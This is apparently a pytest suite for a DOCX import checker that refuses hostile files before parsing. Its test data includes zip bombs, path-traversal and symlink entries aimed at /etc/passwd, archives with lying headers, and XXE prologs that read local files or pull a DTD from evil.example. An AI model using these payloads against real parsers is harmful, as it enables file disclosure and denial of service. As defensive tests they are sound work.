"""DOCX containers built to do harm are refused before anything in them is parsed (E01, E02, E04)."""

import io
import stat
import time
import tracemalloc
import zipfile

import pytest

from objects.importing.archive import check_docx
from objects.importing.result import Unreadable
from tests.objects import files


def refusal(data: bytes) -> str:
    with pytest.raises(Unreadable) as refused:
        check_docx(io.BytesIO(data))
    assert len(refused.value.message) > 30
    return refused.value.code


def entry(name: str, mode: int = 0) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr, info.compress_type = 3, mode << 16, zipfile.ZIP_DEFLATED
    return info


def with_raw_name(name: bytes) -> bytes:
    placeholder = "word/" + "x" * (len(name) - 5)
    return files.archive([(placeholder, "x")]).replace(placeholder.encode(), name)


NESTED = files.archive()
HOSTILE = {
    "too many entries": (lambda: files.archive([(f"word/{n}.xml", "<a/>") for n in range(2001)]), "size"),
    "nested archive": (lambda: files.archive([("word/embeddings/a.docx", NESTED)]), "unsafe"),
    "nested gzip": (lambda: files.archive([("word/a.bin", b"\x1f\x8b\x08rest")]), "unsafe"),
    "ratio above 100": (lambda: files.archive([("word/a.xml", b" " * 3_000_000)]), "unsafe"),
    "unpacks above 50 MB": (
        lambda: files.archive([(f"w/{n}", bytes(range(256)) * 40_000) for n in range(6)]),
        "size",
    ),
    "symbolic link": (
        lambda: files.archive([(entry("word/link", stat.S_IFLNK | 0o777), "/etc/passwd")]),
        "unsafe",
    ),
    "parent directory": (lambda: files.archive([("word/../../etc/x", "x")]), "unsafe"),
    "absolute path": (lambda: files.archive([("/etc/cron.d/x", "x")]), "unsafe"),
    "drive letter": (lambda: files.archive([("C:/x", "x")]), "unsafe"),
    "backslashes": (lambda: with_raw_name(b"word\\..\\..\\x"), "unsafe"),
    "NUL in a name": (lambda: with_raw_name(b"word/a.xml\x00.png"), "unsafe"),
    "header smaller than content": (
        lambda: files.lying_archive(b"<a>" + b"ab1" * 9000 + b"</a>", 99),
        "unsafe",
    ),
    "header larger than content": (
        lambda: files.lying_archive(b"<a>" + b"ab1" * 900 + b"</a>", 30_000),
        "unsafe",
    ),
    "something before it": (lambda: b"%PDF-1.7 \n" + files.archive(), "unsafe"),
    "something behind it": (lambda: files.archive() + b"<script>alert(1)</script>", "unsafe"),
    "two parts of one name": (lambda: files.archive([("Word/Document.xml", "x")]), "unsafe"),
    "no end": (lambda: files.archive()[:-30], "broken"),
    "only an archive": (lambda: NESTED.replace(b"[Content_Types].xml", b"[Content_Tipes].xml"), "kind"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_archive_is_refused(case: str) -> None:
    build, code = HOSTILE[case]
    assert refusal(build()) == code


def test_encrypted_archive_says_so() -> None:
    data = bytearray(files.archive())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    assert refusal(bytes(data)) == "locked"


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "https://evil.example/x.dtd">',
        '<!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!-- one --><?x y?>\n<!DOCTYPE w [<!ENTITY % p SYSTEM "https://evil.example/"> %p;]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_part_that_declares_entities_is_refused(prolog: str, encoding: str) -> None:
    xml = files.document_xml("&x;", prolog).replace('version="1.0"', f'version="1.0" encoding="{encoding}"')
    assert refusal(files.archive([("word/styles.xml", xml.encode(encoding))])) == "unsafe"


def test_a_part_in_an_encoding_that_hides_a_doctype_is_refused() -> None:
    xml = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE w [+ADwAIQ-ENTITY x "y"+AD4]+AD4<w/>'
    assert refusal(files.archive([("word/styles.xml", xml)])) == "broken"


def test_an_honest_document_passes_and_the_stream_is_at_its_start() -> None:
    stream = io.BytesIO(files.docx_of())
    check_docx(stream)
    assert stream.tell() == 0


def test_a_bomb_of_200_mb_is_refused_in_200_ms_without_its_memory() -> None:
    bomb = files.archive([("word/a.xml", b" " * 200_000_000)])
    assert len(bomb) < 700_000
    tracemalloc.start()
    started = time.perf_counter()
    code = refusal(bomb)
    elapsed, peak = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert code == "size"
    assert elapsed <= 0.2
    assert peak <= 50_000_000


def test_a_bomb_whose_list_lies_is_refused_in_200_ms_without_its_memory() -> None:
    bomb = files.lying_archive(b" " * 200_000_000, 10_000_000)
    tracemalloc.start()
    started = time.perf_counter()
    code = refusal(bomb)
    elapsed, peak = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert code == "unsafe"
    assert elapsed <= 0.2
    assert peak <= 50_000_000
